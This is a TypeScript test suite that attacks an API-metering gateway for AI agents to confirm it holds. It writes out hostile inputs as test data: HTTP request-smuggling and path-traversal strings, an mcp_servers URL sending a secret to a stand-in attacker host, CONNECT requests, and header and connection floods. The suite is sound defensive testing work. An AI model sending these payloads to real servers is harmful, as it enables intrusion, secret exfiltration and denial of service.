// The gateway as a process, attacked from the box's side. Every upstream is a real server; nothing is mocked.
import { readFileSync } from "node:fs";
import net from "node:net";
import { describe, expect, it, onTestFinished } from "vitest";
import { anthropicStream, openAiStream, sendStream, startFakeUpstream, type FakeUpstream } from "../src/testing.ts";
import { hello, KEY, MODEL, openGateway, type OpenGateway, type OpenOptions } from "./open-gateway.ts";

type Answer = Parameters<typeof startFakeUpstream>[0];
const STREAM = anthropicStream({ input_tokens: 300, output_tokens: 1 }, { output_tokens: 40 });
const whole: Answer = (client) => sendStream(client, STREAM);

async function open(
  answer: Answer,
  options: Omit<OpenOptions, "origin"> = {},
): Promise<OpenGateway & { upstream: FakeUpstream }> {
  const upstream = await startFakeUpstream(answer);
  onTestFinished(() => upstream.close());
  return { ...(await openGateway({ origin: upstream.origin, ...options })), upstream };
}

const settled = (events: OpenGateway["events"]) => events.filter((event) => event.kind === "settle");
const settledCount = (gate: OpenGateway, count: number) => gate.until(() => settled(gate.events).length >= count);

describe("paths", () => {
  it("passes exactly the API and nothing spelled otherwise", async () => {
    const gate = await open(whole);
    const body = JSON.stringify(hello());
    const line = (first: string, headers = `content-length: ${body.length}\r\n`): string =>
      `${first} HTTP/1.1\r\nhost: x\r\ncontent-type: application/json\r\nconnection: close\r\n${headers}\r\n${body}`;
    const refused = [
      "POST /v1/files",
      "POST /v1/messages/../files",
      "POST /v1/./messages",
      "POST //v1/messages",
      "POST /v1/%6dessages",
      "POST /v1/messages/",
      "POST /v1/messages?beta=false",
      "POST /v1/messages?beta=true&x=1",
      "POST /v1/messages?",
      "POST /v1/messages#x",
      "POST /V1/messages",
      "POST http://api.anthropic.com/v1/messages",
      "POST http://attacker.example/v1/messages",
      "POST *",
      "GET /v1/messages",
      "PUT /v1/messages",
      "DELETE /v1/messages",
      "OPTIONS /v1/messages",
      "GET /",
      "POST /",
      "POST /v1/messages/batches",
      "POST /v1/responses",
      "GET /v1/models",
      "POST /v1/messages;x",
      "POST /v1/messages\\..\\files",
      "CONNECT attacker.example:443",
      "CONNECT api.anthropic.com:443",
    ];
    for (const first of refused) {
      expect([first, (await gate.raw(line(first))).slice(0, 12)]).toEqual([
        first,
        expect.stringMatching(/^HTTP\/1\.1 40[03]$/),
      ]);
    }
    expect(gate.upstream.seen).toEqual([]);
    expect(await gate.raw(line("POST /v1/messages?beta=true"))).toMatch(/^HTTP\/1\.1 200 /);
    expect(gate.upstream.seen).toHaveLength(1);
  });

  it("refuses what two parsers could read differently", async () => {
    const gate = await open(whole);
    const body = JSON.stringify(hello());
    const head = "POST /v1/messages HTTP/1.1\r\nhost: x\r\ncontent-type: application/json\r\n";
    const smuggled = [
      `${head}content-length: ${body.length}\r\ntransfer-encoding: chunked\r\n\r\n${body.length.toString(16)}\r\n${body}\r\n0\r\n\r\n`,
      `${head}transfer-encoding: xchunked\r\n\r\n${body}`,
      `${head}content-length: ${body.length}\r\ncontent-length: ${body.length + 1}\r\n\r\n${body}`,
      `POST /v1/messages HTTP/1.1\nhost: x\ncontent-type: application/json\ncontent-length: ${body.length}\n\n${body}`,
      `${head}content-length : ${body.length}\r\n\r\n${body}`,
      `${head}content-length: +${body.length}\r\n\r\n${body}`,
      `POST /v1/messages HTTP/9.9\r\nhost: x\r\n\r\n`,
      `${head}x: a\r\n folded\r\ncontent-length: ${body.length}\r\n\r\n${body}`,
      `${head}x\0y: z\r\ncontent-length: ${body.length}\r\n\r\n${body}`,
    ];
    for (const bytes of smuggled) expect(await gate.raw(bytes, 150)).not.toMatch(/^HTTP\/1\.1 200/);
    expect(gate.upstream.seen).toEqual([]);
  });

  it("judges a pipelined second request on its own", async () => {
    const gate = await open(whole);
    const body = JSON.stringify(hello());
    const good = `POST /v1/messages HTTP/1.1\r\nhost: x\r\ncontent-type: application/json\r\ncontent-length: ${body.length}\r\n\r\n${body}`;
    const bad = good.replace("/v1/messages", "/v1/files");
    const text = await gate.raw(good + bad);
    expect(text.match(/HTTP\/1\.1 \d{3}/g)).toEqual(["HTTP/1.1 200", "HTTP/1.1 403"]);
    expect(gate.upstream.seen).toHaveLength(1);
  });

  it("answers the harmless ones itself", async () => {
    const gate = await open(whole);
    expect(await gate.raw("HEAD / HTTP/1.1\r\nhost: x\r\nconnection: close\r\n\r\n")).toMatch(/^HTTP\/1\.1 200/);
    const openai = await open(whole, { vendor: "openai", models: ["gpt-5.5"] });
    expect(await openai.raw("GET /v1/models HTTP/1.1\r\nhost: x\r\nconnection: close\r\n\r\n")).toContain(
      '"id":"gpt-5.5"',
    );
    expect([...gate.upstream.seen, ...openai.upstream.seen]).toEqual([]);
  });
});

describe("bodies and headers", () => {
  it("refuses a server tool with 403 and its name, forwards nothing, says so in an event without content", async () => {
    const gate = await open(whole);
    const reply = await gate.post(hello({ mcp_servers: [{ url: "https://attacker.example/?d=SECRET" }] }));
    expect(reply).toMatchObject({ status: 403, headers: { "x-should-retry": "false" } });
    expect(JSON.parse(reply.text)).toMatchObject({
      error: { code: "MODEL_BODY", message: expect.stringContaining("mcp_servers") },
    });
    const told = await gate.until((event) => event.kind === "decision");
    expect(told).toMatchObject({
      verdict: "refused",
      code: "MODEL_BODY",
      text: expect.stringContaining("mcp_servers"),
    });
    expect(JSON.stringify(gate.events)).not.toContain("SECRET");
    expect(gate.upstream.seen).toEqual([]);
    expect(gate.reservations).toEqual([]);
  });

  it("refuses encoded, huge and other bodies", async () => {
    const gate = await open(whole, { limits: { body_bytes: 2048 } });
    expect(await gate.post(hello(), { headers: { "content-encoding": "gzip" } })).toMatchObject({ status: 403 });
    expect(await gate.post(hello(), { headers: { "content-type": "text/plain" } })).toMatchObject({ status: 403 });
    expect(await gate.post(hello({ system: "x".repeat(4000) })).catch(() => ({ status: 413 }))).toMatchObject({
      status: 413,
    });
    const chunked = `POST /v1/messages HTTP/1.1\r\nhost: x\r\ncontent-type: application/json\r\ntransfer-encoding: chunked\r\n\r\n${`400\r\n${"x".repeat(1024)}\r\n`.repeat(4)}`;
    expect(await gate.raw(chunked)).toMatch(/413/);
    expect(gate.upstream.seen).toEqual([]);
  });

  it("sends our headers, our key and a rebuilt body up, and few headers down", async () => {
    const gate = await open((client) => {
      client.setHeader("set-cookie", "a=b");
      client.setHeader("x-internal", "1");
      client.setHeader("retry-after", "3");
      sendStream(client, STREAM);
    });
    const reply = await gate.post(hello(), {
      headers: {
        "x-api-key": "dummy",
        authorization: "Bearer dummy",
        "openai-organization": "org-other",
        "x-litellm-api-base": "http://evil",
        cookie: "c=d",
      },
    });
    const [seen] = gate.upstream.seen;
    expect(Object.keys(seen?.headers ?? {}).toSorted()).toEqual([
      "accept",
      "accept-encoding",
      "anthropic-version",
      "connection",
      "content-length",
      "content-type",
      "host",
      "user-agent",
      "x-api-key",
    ]);
    expect(seen?.headers["x-api-key"]).toBe(KEY);
    expect(reply.headers).toMatchObject({
      "content-type": "text/event-stream; charset=utf-8",
      "request-id": "req_1",
      "retry-after": "3",
    });
    expect(reply.headers).not.toHaveProperty("set-cookie");
    expect(reply.headers).not.toHaveProperty("x-internal");
    expect(reply.text).toBe(STREAM);
  });

  it("keeps the base path", async () => {
    const upstream = await startFakeUpstream(whole);
    onTestFinished(() => upstream.close());
    const gate = await openGateway({
      origin: upstream.origin,
      upstream: { origin: upstream.origin, base_path: "/prefix", auth: { scheme: "x_api_key", key: KEY } },
    });
    await gate.post(hello());
    expect(upstream.seen[0]?.url).toBe("/prefix/v1/messages?beta=true");
  });
});

describe("the key", () => {
  it("is in no argument, environment, event or answer, even when the upstream repeats it", async () => {
    const gate = await open((client, request) => {
      client.writeHead(401, { "content-type": "application/json" });
      const text = JSON.stringify(request.headers);
      const at = text.indexOf(KEY) + 7;
      client.write(text.slice(0, at));
      setTimeout(() => client.end(text.slice(at)), 20);
    });
    const reply = await gate.post(hello());
    expect(reply.status).toBe(401);
    expect(reply.text).toContain("x-api-key");
    expect(reply.text).not.toContain(KEY);
    const proc = (name: string): string => readFileSync(`/proc/${gate.gateway.pid}/${name}`, "utf8");
    expect(proc("environ")).toBe("");
    expect(proc("cmdline")).not.toContain(KEY);
    expect(JSON.stringify(gate.events)).not.toContain(KEY);
  });
});

describe("metering", () => {
  it("reserves before, settles after", async () => {
    const gate = await open(whole, { budgets: { tokens: 100_000, cost_microusd: 10_000_000 } });
    await gate.post(hello());
    await settledCount(gate, 1);
    expect(gate.reservations).toMatchObject([
      { id: "R-1.1", model: MODEL, output_tokens: 100, usage: { requests: 1 } },
    ]);
    expect(settled(gate.events)).toMatchObject([
      {
        id: "R-1.1",
        how: "measured",
        tokens: 340,
        input_tokens: 300,
        output_tokens: 40,
        cost_microusd: 300 * 5 + 40 * 25,
      },
    ]);
    expect(gate.gateway.usage()).toMatchObject({ charged_tokens: 340, requests: 1, agents: 1 });
  });

  it("forwards nothing that the parent did not write down", async () => {
    const verdicts = [
      () => Promise.resolve({ kind: "refused" as const, reason: "disk full" }),
      () => Promise.reject(new Error("disk full")),
    ];
    for (const verdict of verdicts) {
      const gate = await open(whole, { admit: verdict });
      expect(await gate.post(hello())).toMatchObject({ status: 402 });
      expect(gate.upstream.seen).toEqual([]);
      expect(gate.events.filter((event) => event.kind === "settle")).toEqual([]);
    }
    const silent = await open(whole, { admit: () => new Promise(() => undefined) });
    const body = JSON.stringify(hello());
    expect(
      await silent.raw(
        `POST /v1/messages HTTP/1.1\r\nhost: x\r\ncontent-type: application/json\r\ncontent-length: ${body.length}\r\n\r\n${body}`,
        200,
      ),
    ).toBe("");
    expect(silent.upstream.seen).toEqual([]);
  });

  it("two hundred at once: at most four in flight, and never more than the budget and one reservation", async () => {
    const budget = 40_000;
    const gate = await open(whole, { budgets: { tokens: budget }, limits: { connections: 256 } });
    const replies = await Promise.all(
      Array.from({ length: 200 }, () => gate.post(hello({ max_tokens: 5000 })).catch(() => ({ status: 0 }))),
    );
    const forwarded = gate.upstream.seen.length;
    expect(gate.upstream.most()).toBeLessThanOrEqual(4);
    expect(forwarded * 340).toBeLessThanOrEqual(budget + Math.max(...gate.reservations.map((one) => one.tokens)));
    expect(replies.filter(({ status }) => status === 200)).toHaveLength(forwarded);
    expect(replies.some(({ status }) => status === 402)).toBe(true);
    await settledCount(gate, forwarded);
    expect(gate.gateway.usage().charged_tokens).toBe(forwarded * 340);
  });

  it("cut by the upstream at every byte: charged at least what was sold", async () => {
    const bytes = Buffer.from(STREAM);
    const gate = await open((client, _request, index) => {
      client.writeHead(200, { "content-type": "text/event-stream" });
      if (index >= bytes.length) client.end(bytes);
      else client.write(bytes.subarray(0, index), () => client.destroy());
      if (index === 0) client.destroy();
    });
    for (let at = 0; at < bytes.length; at += 1) await gate.post(hello({ max_tokens: 50 })).catch(() => undefined);
    await settledCount(gate, bytes.length);
    // The sale: 300 tokens in and at most 50 out, known or not.
    for (const event of settled(gate.events))
      expect(event).toMatchObject({ how: "kept", tokens: expect.toSatisfy((tokens: number) => tokens >= 50) });
    const first = STREAM.indexOf("\n\n");
    expect(
      settled(gate.events)
        .slice(first + 2)
        .every((event) => "tokens" in event && event.tokens >= 350),
    ).toBe(true);
    expect((await gate.post(hello({ max_tokens: 50 }))).status).toBe(200);
  }, 60_000);

  it("hanging up saves nothing: the upstream is read to its end and charged", async () => {
    let release = (): void => undefined;
    const gate = await open((client) => {
      client.writeHead(200, { "content-type": "text/event-stream" });
      client.write(STREAM.slice(0, 200));
      release = () => client.end(STREAM.slice(200));
    });
    const body = JSON.stringify(hello());
    const socket = net.connect(gate.gateway.socketPath);
    socket.write(
      `POST /v1/messages HTTP/1.1\r\nhost: x\r\ncontent-type: application/json\r\ncontent-length: ${body.length}\r\n\r\n${body}`,
    );
    await new Promise((resolve) => socket.once("data", resolve));
    socket.destroy();
    release();
    await settledCount(gate, 1);
    expect(settled(gate.events)).toMatchObject([{ how: "measured", tokens: 340 }]);
  });

  it.each([
    ["missing", {}, {}],
    ["zero", { input_tokens: 0, output_tokens: 0 }, { output_tokens: 0 }],
    ["negative", { input_tokens: -300, output_tokens: 1 }, { output_tokens: -40 }],
    ["huge", { input_tokens: 1e15, output_tokens: 1 }, { output_tokens: 40 }],
  ])("usage that is %s keeps the upper bound", async (_name, started, ended) => {
    const gate = await open((client) => sendStream(client, anthropicStream(started, ended)));
    await gate.post(hello());
    await settledCount(gate, 1);
    const [reserved] = gate.reservations;
    const [event] = settled(gate.events);
    expect(event).toMatchObject({ how: "kept", reason: "no_usage" });
    expect(event !== undefined && "tokens" in event ? event.tokens : 0).toBeGreaterThanOrEqual(
      reserved?.tokens ?? Infinity,
    );
  });

  it("an upstream that never ends is cut off by time, or by size, and charged", async () => {
    const silent = await open(
      (client) => client.writeHead(200, { "content-type": "text/event-stream" }).write(STREAM.slice(0, 250)),
      { limits: { idle_timeout_ms: 150 } },
    );
    await silent.post(hello());
    expect(await silent.until((event) => event.kind === "settle")).toMatchObject({ how: "kept", reason: "idle" });
    expect(silent.events).toContainEqual({ kind: "stalled", id: "R-1.1", which: "upstream" });

    const mute = await open(() => undefined, { limits: { request_timeout_ms: 150 } });
    expect(await mute.post(hello())).toMatchObject({ status: 502, headers: { "x-should-retry": "false" } });
    expect(mute.events).toContainEqual({ kind: "stalled", id: "R-1.1", which: "request" });

    const endless = await open(
      (client) => {
        client.writeHead(200, { "content-type": "text/event-stream" });
        const more = (): void =>
          void (client.destroyed || (client.write(`: ${"x".repeat(1000)}\n\n`), setImmediate(more)));
        more();
      },
      { limits: { response_bytes: 100_000 } },
    );
    await endless.post(hello());
    expect(await endless.until((event) => event.kind === "settle")).toMatchObject({ how: "kept", reason: "too_large" });
  });

  it("a client that takes nothing is dropped, the upstream is still read and charged", async () => {
    const filler = `: ${"x".repeat(60_000)}\n\n`.repeat(60);
    const gate = await open((client) => sendStream(client, filler + STREAM), { limits: { idle_timeout_ms: 200 } });
    const body = JSON.stringify(hello());
    const socket = net.connect(gate.gateway.socketPath);
    onTestFinished(() => void socket.destroy());
    socket.pause();
    socket.write(
      `POST /v1/messages HTTP/1.1\r\nhost: x\r\ncontent-type: application/json\r\ncontent-length: ${body.length}\r\n\r\n${body}`,
    );
    expect(await gate.until((event) => event.kind === "settle")).toMatchObject({ how: "measured", tokens: 340 });
    expect(gate.events).toContainEqual({ kind: "stalled", id: "R-1.1", which: "client" });
  });

  it("passes 429, 500 and 529 on as they are, charges nothing, counts the request", async () => {
    for (const status of [429, 500, 529]) {
      const gate = await open((client) =>
        client.writeHead(status, { "content-type": "application/json", "retry-after": "2" }).end('{"type":"error"}'),
      );
      expect(await gate.post(hello())).toMatchObject({
        status,
        text: '{"type":"error"}',
        headers: { "retry-after": "2" },
      });
      expect(await gate.until((event) => event.kind === "settle")).toMatchObject({
        how: "free",
        tokens: 0,
        usage: { requests: 1 },
      });
    }
  });

  it("an upstream that is not there costs nothing", async () => {
    const upstream = await startFakeUpstream(whole);
    await upstream.close();
    const gate = await openGateway({ origin: upstream.origin });
    const reply = await gate.post(hello());
    // A failed connection is no verdict: the client may try again.
    expect(reply.status).toBe(502);
    expect(reply.headers).not.toHaveProperty("x-should-retry");
    expect(await gate.until((event) => event.kind === "settle")).toMatchObject({
      how: "free",
      reason: "ECONNREFUSED",
      tokens: 0,
    });
  });

  it("a compressed answer, which could not be metered, is not passed on", async () => {
    const gate = await open((client) =>
      client.writeHead(200, { "content-type": "text/event-stream", "content-encoding": "gzip" }).end("xx"),
    );
    expect((await gate.post(hello())).status).toBe(502);
    expect(await gate.until((event) => event.kind === "settle")).toMatchObject({ how: "kept" });
  });

  it("meters openai and clamps what codex does not limit", async () => {
    const gate = await open(
      (client) =>
        sendStream(
          client,
          openAiStream({ input_tokens: 100, input_tokens_details: { cached_tokens: 40 }, output_tokens: 20 }),
        ),
      {
        vendor: "openai",
        models: ["gpt-5.5"],
        limits: { max_output_tokens: 9000 },
      },
    );
    const reply = await gate.post({ model: "gpt-5.5", input: "x", stream: true }, { path: "/v1/responses" });
    expect(reply.status).toBe(200);
    expect(JSON.parse(gate.upstream.seen[0]?.raw ?? "")).toEqual({
      model: "gpt-5.5",
      input: "x",
      stream: true,
      store: false,
      max_output_tokens: 9000,
    });
    expect(gate.upstream.seen[0]?.headers.authorization).toBe(`Bearer ${KEY}`);
    expect(await gate.until((event) => event.kind === "settle")).toMatchObject({
      tokens: 80,
      input_tokens: 60,
      cache_read_tokens: 40,
      cost_microusd: null,
    });
  });

  it("counting tokens is a request that buys nothing", async () => {
    const gate = await open(
      (client) => client.writeHead(200, { "content-type": "application/json" }).end('{"input_tokens":5}'),
      { budgets: { requests: 1 } },
    );
    const body = { model: MODEL, messages: [{ role: "user", content: "x" }] };
    expect((await gate.post(body, { path: "/v1/messages/count_tokens" })).status).toBe(200);
    expect(await gate.post(body, { path: "/v1/messages/count_tokens" })).toMatchObject({
      status: 402,
      text: expect.stringContaining("REQUEST_BUDGET"),
    });
    expect(gate.gateway.usage()).toMatchObject({ requests: 1, charged_tokens: 0, agents: 0 });
  });
});

describe("budgets and halts", () => {
  it("a spent budget is 402 and one event", async () => {
    const gate = await open(whole, { budgets: { requests: 1 } });
    expect((await gate.post(hello())).status).toBe(200);
    for (let n = 0; n < 2; n += 1)
      expect(await gate.post(hello())).toMatchObject({ status: 402, text: expect.stringContaining("REQUEST_BUDGET") });
    await gate.until((event) => event.kind === "budget_spent");
    expect(gate.events.filter((event) => event.kind === "budget_spent")).toEqual([
      { kind: "budget_spent", budget: "requests", text: expect.any(String) },
    ]);
  });

  it("S16: a second agent is counted by what it says, and refused", async () => {
    const gate = await open(whole, { budgets: { agents: 1 } });
    const session = { headers: { "x-claude-code-session-id": "same" } };
    expect((await gate.post(hello({ system: "main" }), session)).status).toBe(200);
    const next = hello({
      system: "main",
      messages: [
        { role: "user", content: "hello" },
        { role: "assistant", content: "hi" },
        { role: "user", content: "go on" },
      ],
    });
    expect((await gate.post(next, session)).status).toBe(200);
    expect(await gate.post(hello({ system: "nested" }), session)).toMatchObject({
      status: 402,
      text: expect.stringContaining("AGENT_BUDGET"),
    });
    expect(gate.gateway.usage().agents).toBe(1);
  });

  it("a halt cuts what is in flight and refuses the rest", async () => {
    let arrived = (): void => undefined;
    const reached = new Promise<void>((resolve) => (arrived = resolve));
    const gate = await open((client) => {
      client.writeHead(200, { "content-type": "text/event-stream" }).write(STREAM.slice(0, 250));
      arrived();
    });
    const inFlight = gate.post(hello());
    await reached;
    gate.gateway.halt("emergency");
    await inFlight.catch(() => undefined);
    expect(await gate.until((event) => event.kind === "settle")).toMatchObject({ how: "kept", reason: "halted" });
    expect(await gate.post(hello())).toMatchObject({ status: 402, text: expect.stringContaining("RUN_HALTED") });
  });

  it("what the parent cannot record stops the run", async () => {
    const record = (event: OpenGateway["events"][number]): void => {
      if (event.kind === "settle") throw new Error("disk full");
    };
    const gate = await open(whole, { record });
    expect((await gate.post(hello())).status).toBe(200);
    await settledCount(gate, 1);
    // The halt overtakes no request that is already on its way, so ask until it has arrived.
    let reply = await gate.post(hello());
    while (reply.status === 200) reply = await gate.post(hello());
    expect(reply).toMatchObject({ status: 402, text: expect.stringContaining("RUN_HALTED") });
  });

  it("dies with its parent’s pipe", async () => {
    const gate = await open(whole);
    await gate.gateway.close();
    expect(await gate.gateway.exited).toMatchObject({ code: 0 });
  });
});

describe("exhaustion (S29)", () => {
  it("survives thousands of connections and serves afterwards", async () => {
    const gate = await open(whole);
    const sockets = Array.from({ length: 2000 }, () =>
      net.connect(gate.gateway.socketPath).on("error", () => undefined),
    );
    await Promise.all(
      sockets.map((socket) => new Promise((resolve) => socket.once("connect", resolve).once("close", resolve))),
    );
    for (const socket of sockets) socket.destroy();
    const deadline = Date.now() + 20_000;
    let status = 0;
    while (status !== 200 && Date.now() < deadline)
      status = await gate.post(hello()).then(
        (reply) => reply.status,
        () => 0,
      );
    expect(status).toBe(200);
  });

  it("holds no more connections than it may", async () => {
    const gate = await open(whole, { limits: { connections: 8 } });
    const sockets = Array.from({ length: 20 }, () => net.connect(gate.gateway.socketPath).on("error", () => undefined));
    onTestFinished(() => sockets.forEach((socket) => socket.destroy()));
    let closed = 0;
    await new Promise<void>((resolve) => {
      for (const socket of sockets) socket.once("close", () => (closed += 1) === 12 && resolve());
    });
    const kept = sockets.filter((socket) => !socket.closed && !socket.destroyed);
    expect(kept).toHaveLength(8);
    const answers = kept.map((socket) => new Promise((resolve) => socket.once("data", resolve)));
    for (const socket of kept) socket.write("HEAD / HTTP/1.1\r\nhost: x\r\n\r\n");
    await Promise.all(answers);
  });

  it("slow headers and slow bodies are cut off", async () => {
    const gate = await open(whole, { limits: { receive_timeout_ms: 200 } });
    expect(await gate.raw("POST /v1/messages HTTP/1.1\r\nhost: x\r\n", 5000)).toMatch(/^(HTTP\/1\.1 408|$)/);
    expect(
      await gate.raw(
        "POST /v1/messages HTTP/1.1\r\nhost: x\r\ncontent-type: application/json\r\ncontent-length: 100\r\n\r\n{",
        5000,
      ),
    ).toMatch(/^(HTTP\/1\.1 408|$)/);
    expect((await gate.post(hello())).status).toBe(200);
  });

  it("a header flood and a deep body are refused", async () => {
    const gate = await open(whole);
    expect(await gate.raw(`GET / HTTP/1.1\r\nhost: x\r\n${"x: y\r\n".repeat(20_000)}\r\n`)).toMatch(/^HTTP\/1\.1 431/);
    expect((await gate.post(`${"[".repeat(500_000)}`)).status).toBe(403);
    expect(gate.upstream.seen).toEqual([]);
  });
});
